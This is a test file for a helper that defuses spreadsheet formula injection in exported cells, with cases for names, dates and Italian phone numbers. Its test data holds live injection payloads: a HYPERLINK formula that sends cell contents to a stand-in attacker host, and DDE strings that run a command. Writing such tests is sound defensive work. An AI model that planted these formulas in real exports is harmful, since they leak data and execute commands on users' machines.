import { describe, expect, it } from 'vitest';
import { formulaSafe, isFormulaRisk, isPlainPhoneNumber, withoutFormulaMark } from './formulaSafe';

describe('formulaSafe: export cells a spreadsheet cannot run', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
    ["@SUM(1+1)*cmd|' /C calc'!A0", `'@SUM(1+1)*cmd|' /C calc'!A0`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['+39 333 1234567 =A1', `'+39 333 1234567 =A1`],
    ['+39-333-1234567', `'+39-333-1234567`],
    ['+1', `'+1`],
    ['-', `'-`],
  ])('%j → %j', (raw, out) => expect(formulaSafe(raw)).toBe(out));

  it.each([
    'Rossi',
    "Dell'Acqua",
    'a=b',
    ' =1+1 is not at the start',
    'mario.rossi@example.it',
    '00118',
    '31/12/2026',
    '',
    '+39 333 1234567',
    '+393331234567',
    '+44 20 7946 0958',
  ])('%j stays as it is', (raw) => expect(formulaSafe(raw)).toBe(raw));

  it('a phone number is plain only with digits and spaces after the + and a length the SMS helper accepts', () => {
    expect(isPlainPhoneNumber('+39 333 1234567')).toBe(true);
    expect(isPlainPhoneNumber('+39 12')).toBe(false);
    expect(isPlainPhoneNumber('+39 (333) 1234567')).toBe(false);
    expect(isPlainPhoneNumber('+ 39 333 1234567')).toBe(false);
    expect(isPlainPhoneNumber('333 1234567')).toBe(false);
    expect(isFormulaRisk('333 1234567')).toBe(false);
  });
});

describe('withoutFormulaMark: a text export read back', () => {
  const values = [
    '=HYPERLINK("http://evil.example","x")',
    '+39 000',
    '+39 333 1234567',
    '-',
    '\t=1+1',
    "'=1+1",
    "''+1",
    "'Ndrangheta studies",
    "Dell'Acqua",
    "'",
    'Rossi',
    '',
  ];
  it.each(values)('%j comes back as it was written', (raw) => expect(withoutFormulaMark(formulaSafe(raw))).toBe(raw));

  it('takes off only the mark the export puts, never an apostrophe of the value', () => {
    expect(withoutFormulaMark("'+39 000")).toBe('+39 000');
    expect(withoutFormulaMark(`'=HYPERLINK("x")`)).toBe('=HYPERLINK("x")');
    expect(withoutFormulaMark("'+39 333 1234567")).toBe("'+39 333 1234567");
    expect(withoutFormulaMark("'Rossi")).toBe("'Rossi");
    // a value typed with an apostrophe before a formula is exported with a second one, and keeps its own
    expect(formulaSafe("'=1+1")).toBe("''=1+1");
  });
});
